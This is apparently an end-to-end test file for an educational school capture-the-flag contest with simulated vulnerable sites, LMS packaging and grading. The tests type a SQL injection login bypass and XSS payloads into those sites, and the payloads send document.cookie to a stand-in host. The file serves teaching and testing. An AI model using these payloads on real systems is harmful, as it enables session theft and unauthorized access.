import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { unzipSync } from 'fflate';
import type { Browser, Frame, Page } from 'playwright-core';
import AxeBuilder from '@axe-core/playwright';
import { launchBrowser } from '../helpers/browser.ts';
import { startStaticServer } from '../helpers/static-server.ts';
import { contentPath } from '../helpers/lms-site.ts';
import { createLmsLauncher } from '../helpers/lms-launch.ts';
import { applyMoodleRules, relaunchData } from '../helpers/moodle-rules.ts';
import { startLrs, type Lrs, type StoredStatement } from '../helpers/lrs.ts';
import { startStrictCmi5Lms } from '../helpers/cmi5-lms.ts';
import { REPO } from '../helpers/fixtures.ts';
import { buildContest, challengeScripts, initialScripts } from '../../packaging/contest/build-contest.ts';
import { lazyFile } from '../../src/contest/page/lazy-names.ts';
import type { RuntimeChallenge, RuntimeContest } from '../../src/contest/schema.ts';
import { deriveFlag } from '../../src/contest/flags.ts';
import { SOLUTIONS } from '../../src/contest/challenges/solutions.ts';
import { iris } from '../../src/core/iris.ts';

const SEED = 'e2e-contest-seed';
let browser: Browser;
let server: Awaited<ReturnType<typeof startStaticServer>>;
let lrs: Lrs;
let root: string;
const points: Record<string, { value: number; fixValue: number; hints: number[] }> = {};

/** The contest build served as a school would: the standalone pages, and packages unzipped where a Moodle-like LMS serves them. */
beforeAll(async () => {
  const dist = mkdtempSync(join(tmpdir(), 'ks-contest-e2e-'));
  const { sources } = await buildContest({ root: REPO, dist, seed: SEED });
  for (const c of sources.challenges) points[c.text.id] = { value: c.text.value, fixValue: c.text.fixValue, hints: c.text.hints.map((h) => h.cost) };
  root = join(dist, 'contest');
  for (const [format, id] of [['scorm12', 'contest-thcs'], ['xapi', 'contest-dai-hoc'], ['cmi5', 'contest-thpt']] as const) {
    for (const [name, bytes] of Object.entries(unzipSync(readFileSync(join(root, format, `${id}.zip`))))) {
      const target = join(root, contentPath(format, id), name);
      mkdirSync(dirname(target), { recursive: true });
      writeFileSync(target, bytes);
    }
  }
  mkdirSync(join(root, 'vendor'), { recursive: true });
  for (const f of ['scorm12.min.js', 'scorm2004.min.js']) cpSync(join(REPO, 'node_modules/scorm-again/dist', f), join(root, 'vendor', f));
  cpSync(join(REPO, 'tests/e2e/lms'), join(root, 'lms'), { recursive: true });
  server = await startStaticServer(root);
  browser = await launchBrowser();
  lrs = await startLrs();
}, 180_000);
afterAll(async () => {
  await browser?.close();
  await server?.close();
  await lrs?.close();
});

/** Hosts the page tried to reach: only the local server (and the LRS when there is one). */
function watchHosts(page: Page): Set<string> {
  const hosts = new Set<string>();
  page.on('request', (r) => { const u = new URL(r.url()); if (/^https?:$/.test(u.protocol)) hosts.add(u.host); });
  return hosts;
}

async function openChallenge(f: Frame | Page, id: string) {
  await f.click(`[data-challenge="${id}"]`);
  await f.waitForSelector(`[data-challenge="${id}"][aria-current="true"]`);
  await expect.poll(() => f.textContent('#ct-status'), { timeout: 20000 }).toMatch(/^200 /);
}

const view = (f: Frame | Page) => f.frameLocator('#ct-view');
const flagIn = (text: string) => /KS\{[a-z0-9-]+-[0-9a-f]{12}\}/.exec(text)?.[0] ?? '';

async function submitFlag(f: Frame | Page, flag: string): Promise<string | null> {
  await f.fill('#ct-flag', flag);
  await f.click('#ct-submit-flag');
  await f.waitForSelector('#ct-flag-result[data-ok]');
  return f.getAttribute('#ct-flag-result', 'data-ok');
}

describe('contest page in a school lab with no LMS and no server (standalone)', () => {
  it('a team captures a flag through the simulated site, submits it, fixes the code; a fix that is not one is refused', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const page = await context.newPage();
    const hosts = watchHosts(page);
    const scripts: string[] = [];
    const base = `${server.url}/play/contest-thpt/`;
    page.on('request', (r) => { if (r.resourceType() === 'script' && r.url().startsWith(base)) scripts.push(r.url().slice(base.length)); });
    await page.goto(`${server.url}/play/contest-thpt/index.html`);
    await page.fill('#ct-team', 'Đội 3');
    await page.click('#ct-start');
    await page.waitForSelector('#ct-title');
    // The contest opens on its overview with the rules, having loaded only what `npm run bench` counts as its start.
    expect(await page.textContent('#ct-main')).toContain('116/2025/QH15');
    const contestData = JSON.parse(await page.textContent('#ks-contest') ?? '{}') as RuntimeContest;
    expect(scripts).toEqual(initialScripts(contestData));
    await openChallenge(page, 'sqli-login');
    // Opening a challenge loads its code and, as it uses SQL, the SQLite glue; nothing else.
    expect(scripts.slice(1).sort()).toEqual(challengeScripts(contestData, contestData.challenges.find((c) => c.id === 'sqli-login') as RuntimeChallenge).sort());
    // Every challenge reminds of the rules of engagement and the law.
    expect(await page.textContent('#ct-reminder')).toContain('116/2025/QH15');
    const axe = await new AxeBuilder({ page }).exclude('#ct-view').withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']).analyze();
    expect(axe.violations.map((v) => `${v.id}: ${v.nodes.map((x) => x.target.join(' ')).join('; ')}`)).toEqual([]);
    // The attack, typed into the simulated library's login form.
    await view(page).locator('input[name=ten]').fill("quantri' --");
    await view(page).locator('input[name=mat_khau]').fill('gi-cung-duoc');
    await view(page).locator('button').click();
    await expect.poll(() => page.textContent('#ct-source'), { timeout: 15000 }).toContain('Trang quản trị');
    const flag = flagIn(await page.textContent('#ct-source') ?? '');
    expect(flag).toBe(deriveFlag(SEED, 'sqli-login', 'Đội 3'));
    // Another team's flag is refused; this team's is accepted.
    expect(await submitFlag(page, deriveFlag(SEED, 'sqli-login', 'Đội 4'))).toBe('false');
    expect(await submitFlag(page, flag)).toBe('true');
    await expect.poll(() => page.textContent('#ct-score')).toContain('200/');
    // Fix-checking in the browser: the unpatched code is rejected, a keyword filter too, the reference fix accepted.
    await page.click('#ct-check');
    await page.waitForSelector('#ct-fix-result[data-accepted]');
    expect(await page.getAttribute('#ct-fix-result', 'data-accepted')).toBe('false');
    expect(await page.locator('#ct-fix-result li[data-pass=false]').count()).toBeGreaterThan(0);
    // The code runner came with the first check.
    expect(scripts.at(-1)).toBe(lazyFile('runner'));
    await page.fill('#ct-code', 'function buildLoginQuery(){ while (true) {} }');
    await page.click('#ct-check');
    await expect.poll(() => page.textContent('#ct-fix-result'), { timeout: 15000 }).toMatch(/✗/);
    expect(await page.getAttribute('#ct-fix-result', 'data-accepted')).toBe('false');
    await page.fill('#ct-code', SOLUTIONS['sqli-login']?.reference ?? '');
    await page.click('#ct-check');
    await expect.poll(() => page.getAttribute('#ct-fix-result', 'data-accepted'), { timeout: 15000 }).toBe('true').catch(async (e: unknown) => { throw new Error(`${String(e)}\n${await page.textContent('#ct-fix-result')}`); });
    await expect.poll(() => page.textContent('#ct-score')).toContain('300/');

    // Reflected XSS: the teacher (a sandboxed frame with no network) opens the learner's link.
    await openChallenge(page, 'xss-reflected');
    const payload = `"><p><script>fetch('http://may-cua-em.test/?c='+encodeURIComponent(document.cookie))</script></p>`;
    await view(page).locator('input[name=link]').fill(`http://tracuu.thpt-leloi.test/tim?q=${encodeURIComponent(payload)}`);
    await view(page).locator('form[action="/gui-thay"] button').click();
    await expect.poll(() => page.textContent('#ct-source'), { timeout: 15000 }).toContain('Thầy Quang đã mở link');
    await page.fill('#ct-address', 'http://may-cua-em.test/');
    await page.selectOption('#ct-method', 'GET');
    await page.click('#ct-send');
    await expect.poll(() => page.textContent('#ct-source'), { timeout: 15000 }).toContain('KS%7B');
    const stolen = decodeURIComponent(await page.textContent('#ct-source') ?? '');
    expect(flagIn(stolen)).toBe(deriveFlag(SEED, 'xss-reflected', 'Đội 3'));

    // The page switches to English and back.
    await page.click('#ct-lang');
    await expect.poll(() => page.textContent('#ct-title')).toBe('A link for the teacher');
    expect(await page.textContent('#ct-reminder')).toContain('Cybersecurity Law 116/2025/QH15');
    await page.click('#ct-lang');
    await expect.poll(() => page.textContent('#ct-title')).toBe('Đường link gửi thầy');

    // A reload keeps the team and its score (this browser's storage).
    await page.reload();
    await page.waitForSelector('#ct-title');
    expect(await page.textContent('#ct-player')).toContain('Đội 3');
    expect(await page.textContent('#ct-score')).toContain('300/');
    expect([...hosts]).toEqual([new URL(server.url).host]);
    await context.close();
  }, 120_000);
});

describe('fix-checking in the browser, for every coding challenge', () => {
  const byContest = { 'contest-thpt': ['grade-validation', 'sqli-login', 'xss-reflected', 'idor-report', 'cookie-role'], 'contest-dai-hoc': ['sqli-union', 'xss-stored', 'path-traversal'] };
  for (const [contest, ids] of Object.entries(byContest)) {
    it(`${contest}: the unpatched code is rejected and the reference fix accepted`, async () => {
      const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
      const page = await context.newPage();
      await page.goto(`${server.url}/play/${contest}/index.html`);
      await page.fill('#ct-team', 'kiem-tra');
      await page.click('#ct-start');
      await page.waitForSelector('#ct-title');
      for (const id of ids) {
        await openChallenge(page, id);
        await page.click('#ct-check');
        await expect.poll(() => page.getAttribute('#ct-fix-result', 'data-accepted'), { timeout: 15000 }).toBe('false');
        await page.fill('#ct-code', SOLUTIONS[id]?.reference ?? '');
        await page.click('#ct-check');
        await expect.poll(() => page.getAttribute('#ct-fix-result', 'data-accepted'), { timeout: 15000 }).toBe('true');
        expect(await page.locator('#ct-fix-result li[data-pass=false]').count(), id).toBe(0);
      }
      await context.close();
    }, 120_000);
  }

  it('stored XSS: the form teacher\'s browser (sandboxed, no network) runs the entry and her cookie reaches the learner\'s machine', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const page = await context.newPage();
    const hosts = watchHosts(page);
    await page.goto(`${server.url}/play/contest-dai-hoc/index.html`);
    await page.fill('#ct-team', 'Đội 9');
    await page.click('#ct-start');
    await page.waitForSelector('#ct-title');
    await openChallenge(page, 'xss-stored');
    await view(page).locator('input[name=ten]').fill('Bạn bí ẩn');
    await view(page).locator('textarea[name=loi]').fill(`<script>fetch('http://may-cua-em.test/?c='+encodeURIComponent(document.cookie))</script>`);
    await view(page).locator('form[action="/viet"] button').click();
    await expect.poll(() => page.textContent('#ct-source'), { timeout: 15000 }).toContain('Bạn bí ẩn');
    await view(page).locator('form[action="/nho-co-duyet"] button').click();
    await expect.poll(() => page.textContent('#ct-source'), { timeout: 15000 }).toContain('Máy của em nhận được 1');
    await page.fill('#ct-address', 'http://may-cua-em.test/');
    await page.selectOption('#ct-method', 'GET');
    await page.click('#ct-send');
    await expect.poll(() => page.textContent('#ct-source'), { timeout: 15000 }).toContain('KS%7B');
    const flag = flagIn(decodeURIComponent(await page.textContent('#ct-source') ?? ''));
    expect(flag).toBe(deriveFlag(SEED, 'xss-stored', 'Đội 9'));
    expect(await submitFlag(page, flag)).toBe('true');
    expect([...hosts]).toEqual([new URL(server.url).host]);
    await context.close();
  }, 120_000);
});

describe('CTFd offline page, opened straight from disk (file://)', () => {
  it('plays the one challenge as the CTFd player: no team code, SQLite works, the static CTFd flag is captured', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ks-ctfd-offline-'));
    for (const [name, bytes] of Object.entries(unzipSync(readFileSync(join(root, 'ctfd/sqli-login/dist/sqli-login-offline.zip'))))) {
      mkdirSync(dirname(join(dir, name)), { recursive: true });
      writeFileSync(join(dir, name), bytes);
    }
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const page = await context.newPage();
    const hosts = watchHosts(page);
    await page.goto(`file://${join(dir, 'index.html')}`);
    await page.waitForSelector('#ct-title');
    expect(await page.textContent('#ct-player')).toContain('ctfd');
    await expect.poll(() => page.textContent('#ct-status'), { timeout: 20000 }).toMatch(/^200 /);
    await view(page).locator('input[name=ten]').fill("quantri' --");
    await view(page).locator('input[name=mat_khau]').fill('x');
    await view(page).locator('button').click();
    await expect.poll(() => page.textContent('#ct-source'), { timeout: 15000 }).toContain('Trang quản trị');
    const flag = flagIn(await page.textContent('#ct-source') ?? '');
    expect(flag).toBe(deriveFlag(SEED, 'sqli-login', 'ctfd'));
    expect(readFileSync(join(root, 'ctfd/sqli-login/challenge.yml'), 'utf8')).toContain(`content: ${flag}`);
    expect([...hosts]).toEqual([]);
    await context.close();
  }, 120_000);
});

describe('contest unit in a SCORM 1.2 LMS (Moodle rules)', () => {
  it('reports solved challenges minus hints as the grade, per learner flags, and resumes in the next session', async () => {
    const launcher = createLmsLauncher(browser, server.url);
    const student = { 'cmi.core.student_id': 'hs-8a-12', 'cmi.core.student_name': 'Lê, Hà' };
    const l = await launcher('12', 'contest-thcs', { flat: student });
    const f = l.frame;
    await f.waitForSelector('#ct-title');
    expect(await f.textContent('#ct-player')).toContain('hs-8a-12');
    await openChallenge(f, 'scam-shop');
    await f.click('#ct-hint-open');
    await f.waitForSelector('#ct-hints li');
    // The flag of another learner does not count; the learner's own does.
    expect(await submitFlag(f, deriveFlag(SEED, 'scam-shop', 'hs-8a-13'))).toBe('false');
    expect(await submitFlag(f, deriveFlag(SEED, 'scam-shop', 'hs-8a-12'))).toBe('true');
    await openChallenge(f, 'fake-login');
    expect(await submitFlag(f, deriveFlag(SEED, 'fake-login', 'hs-8a-12'))).toBe('true');
    const max = ['scam-shop', 'fake-login', 'app-permissions', 'link-tricks'].reduce((s, id) => s + (points[id]?.value ?? 0), 0);
    const earned1 = (points['scam-shop']?.value ?? 0) - (points['scam-shop']?.hints[0] ?? 0) + (points['fake-login']?.value ?? 0);
    const calls = await l.leave();
    const m = applyMoodleRules('12', calls, { masteryScore: 50 });
    const score1 = Math.round((100 * earned1) / max);
    expect(score1).toBeLessThan(50);
    // Below the pass mark with the contest still open, the SCORM 1.2 adapter sends no score (proven in the real
    // Moodle: with "mastery score overrides status" a score under the mark turns the attempt "failed" and reopens it
    // in review mode, so the team could not go on); the attempt stays incomplete and resumes.
    expect(m.grade).toBeNull();
    expect(m.status).toBe('incomplete');
    const interactions = Object.entries(m.tracks).filter(([k]) => /^cmi\.interactions\.\d+\.id$/.test(k)).map(([, v]) => v);
    expect(interactions).toEqual(['scam-shop', 'fake-login']);
    expect(m.tracks['cmi.interactions.0.result']).toBe(((points['scam-shop']!.value - points['scam-shop']!.hints[0]!) / points['scam-shop']!.value).toFixed(2));
    expect(m.resumes).toBe(true);

    // Next session: the LMS hands back the saved state; one more challenge raises the grade past the mastery score.
    const l2 = await launcher('12', 'contest-thcs', { flat: { ...student, ...relaunchData('12', m.tracks, m.resumes) } });
    await l2.frame.waitForSelector('#ct-title');
    expect(await l2.frame.textContent('[data-challenge="scam-shop"]')).toMatch(/✓/);
    await openChallenge(l2.frame, 'link-tricks');
    expect(await submitFlag(l2.frame, deriveFlag(SEED, 'link-tricks', 'hs-8a-12'))).toBe('true');
    const m2 = applyMoodleRules('12', await l2.leave(), { masteryScore: 50, previous: m.tracks });
    const earned2 = earned1 + (points['link-tricks']?.value ?? 0);
    expect(m2.grade).toBe(Math.round((100 * earned2) / max));
    expect(m2.grade).toBeGreaterThanOrEqual(50);
    expect(m2.status).toBe('passed');
  }, 120_000);
});

describe('contest units with an LRS', () => {
  const actor = { objectType: 'Agent', name: 'Trần Minh', account: { homePage: 'https://lms.dh-phuongnam.example', name: 'sv-2026-001' } };
  const V = (n: string) => `http://adlnet.gov/expapi/verbs/${n}`;
  type Graded = StoredStatement & { result: { score: { raw: number } }; object: { id: string } };

  it('xAPI: each capture and fix is an "answered" statement and the graded score is solved points over all points', async () => {
    const activityId = iris.unit('contest-dai-hoc');
    const q = new URLSearchParams({ endpoint: lrs.endpoint, auth: lrs.auth, actor: JSON.stringify(actor), registration: crypto.randomUUID(), activity_id: activityId });
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const page = await context.newPage();
    const hosts = watchHosts(page);
    const before = lrs.statements.length;
    await page.goto(`${server.url}${contentPath('xapi', 'contest-dai-hoc')}index.html?${q}`);
    await page.waitForSelector('#ct-title');
    await openChallenge(page, 'sqli-union');
    expect(await submitFlag(page, deriveFlag(SEED, 'sqli-union', 'sv-2026-001'))).toBe('true');
    await page.fill('#ct-code', SOLUTIONS['sqli-union']?.reference ?? '');
    await page.click('#ct-check');
    await expect.poll(() => page.getAttribute('#ct-fix-result', 'data-accepted'), { timeout: 15000 }).toBe('true');
    await page.goto('about:blank');
    await expect.poll(() => lrs.statements.slice(before).filter((s) => s.verb.id === V('terminated')).length, { timeout: 15000 }).toBe(1);
    await context.close();
    expect(lrs.invalid).toEqual([]);
    const mine = lrs.statements.slice(before) as Graded[];
    expect(mine.filter((s) => s.verb.id === V('answered')).map((s) => s.object.id)).toEqual([iris.question('contest-dai-hoc', 'sqli-union'), iris.question('contest-dai-hoc', 'sqli-union-fix')]);
    const max = ['sqli-union', 'xss-stored', 'path-traversal', 'weak-hash', 'code-review'].reduce((s, id) => s + (points[id]?.value ?? 0) + (points[id]?.fixValue ?? 0), 0);
    const graded = mine.filter((s) => s.verb.id === V('failed') || s.verb.id === V('passed'));
    expect(graded.at(-1)?.result.score.raw).toBe(Math.round((100 * ((points['sqli-union']?.value ?? 0) + (points['sqli-union']?.fixValue ?? 0))) / max));
    expect([...hosts].sort()).toEqual([new URL(server.url).host, new URL(lrs.endpoint).host].sort());
  }, 120_000);

  it('cmi5 with a strict cmi5 LMS: a resumed session never re-sends passed or completed (once per registration), even where the LMS does not let the AU query statements; nothing is refused', async () => {
    const activityId = iris.unit('contest-thpt');
    const lms = await startStrictCmi5Lms({ actor, activityId, auUrl: () => `${server.url}${contentPath('cmi5', 'contest-thpt')}index.html` });
    try {
      const registration = crypto.randomUUID();
      const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
      const sitting = async (challenge: string) => {
        const { url, session } = lms.launch(registration, { masteryScore: 0.05, moveOn: 'Passed' });
        const page = await context.newPage();
        await page.goto(url);
        await page.waitForSelector('#ct-title');
        await openChallenge(page, challenge);
        expect(await submitFlag(page, deriveFlag(SEED, challenge, 'sv-2026-001'))).toBe('true');
        await page.goto('about:blank');
        await expect.poll(() => lms.sessions.get(session.id)?.verbs.includes('terminated'), { timeout: 15000 }).toBe(true);
        await page.close();
      };
      await sitting('secret-in-js');
      expect(lms.definedVerbs(registration).filter((v) => v === 'passed')).toHaveLength(1);
      // An LMS may refuse the AU's statement queries (its token only writes): the AU must still know what it reported.
      await context.route((u) => u.pathname.endsWith('/xapi/statements') && u.searchParams.has('verb'), (r) => r.fulfill({ status: 403, body: 'queries not allowed' }));
      await sitting('grade-validation');
      await context.close();
      expect(lms.lrs.refusals).toEqual([]);
      const verbs = lms.definedVerbs(registration);
      expect(verbs.filter((v) => v === 'passed')).toHaveLength(1);
      expect(verbs.filter((v) => v === 'completed').length).toBeLessThanOrEqual(1);
      expect(verbs.filter((v) => v === 'failed')).toHaveLength(0);
      expect(lms.satisfied.has(registration)).toBe(true);
    } finally {
      await lms.close();
    }
  }, 120_000);

  it('cmi5: the AU reports the capture with the cmi5 launch sequence', async () => {
    const activityId = iris.unit('contest-thpt');
    const registration = crypto.randomUUID();
    const sessionId = crypto.randomUUID();
    lrs.putDocument('activities/state', { activityId, agent: actor, registration, id: 'LMS.LaunchData' }, {
      contextTemplate: { extensions: { 'https://w3id.org/xapi/cmi5/context/extensions/sessionid': sessionId } }, launchMode: 'Normal', launchMethod: 'AnyWindow', moveOn: 'CompletedAndPassed',
    });
    const q = new URLSearchParams({ endpoint: lrs.endpoint, fetch: lrs.newFetchUrl(), actor: JSON.stringify(actor), registration, activityId });
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const page = await context.newPage();
    const before = lrs.statements.length;
    await page.goto(`${server.url}${contentPath('cmi5', 'contest-thpt')}index.html?${q}`);
    await page.waitForSelector('#ct-title');
    await openChallenge(page, 'secret-in-js');
    expect(await submitFlag(page, deriveFlag(SEED, 'secret-in-js', 'sv-2026-001'))).toBe('true');
    await page.goto('about:blank');
    await expect.poll(() => lrs.statements.slice(before).filter((s) => s.verb.id === V('terminated')).length, { timeout: 15000 }).toBe(1);
    await context.close();
    expect(lrs.invalid).toEqual([]);
    const verbs = lrs.statements.slice(before).map((s) => s.verb.id.split('/').pop());
    expect(verbs[0]).toBe('initialized');
    expect(verbs.at(-1)).toBe('terminated');
    expect(verbs).toContain('answered');
    const failed = lrs.statements.slice(before).filter((s) => s.verb.id === V('failed')) as Graded[];
    const max = ['grade-validation', 'secret-in-js', 'sqli-login', 'xss-reflected', 'idor-report', 'cookie-role'].reduce((s, id) => s + (points[id]?.value ?? 0) + (points[id]?.fixValue ?? 0), 0);
    expect(failed).toHaveLength(1);
    expect(failed[0]?.result.score.raw).toBe(Math.round((100 * (points['secret-in-js']?.value ?? 0)) / max));
  }, 120_000);
});
